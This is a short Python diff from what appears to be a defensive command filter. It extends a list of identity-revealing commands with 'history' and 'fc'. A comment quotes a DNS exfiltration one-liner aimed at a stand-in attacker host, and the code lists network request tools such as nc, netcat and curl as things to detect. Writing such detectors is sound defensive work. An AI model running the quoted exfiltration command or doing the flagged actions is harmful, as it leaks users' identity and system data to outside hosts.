@@ -369,7 +369,7 @@ def _ssh(cmd: Cmd, ctx: Context) -> Iterator[Result]:
 # reconnaissance (``nslookup "$(whoami).$(hostname).x.attacker.net"``).
 # (``uname -m`` is not among them: download addresses name the platform.)
 _IDENTITY = frozenset({"whoami", "hostname", "id", "logname", "users", "groups", "ifconfig",
-                       "ip", "env", "printenv", "hostid"})  # fmt: skip
+                       "ip", "env", "printenv", "hostid", "history", "fc"})  # fmt: skip
 _IDENTITY_VARIABLES = re.compile(r"\$\{?(USER|LOGNAME|USERNAME|HOSTNAME|HOST)\b\}?")
 _REQUEST_SENDERS = frozenset({"curl", "wget", "http", "https", "xh", "nslookup", "dig", "host",
                               "drill", "ping", "nc", "ncat", "netcat", "telnet"})  # fmt: skip
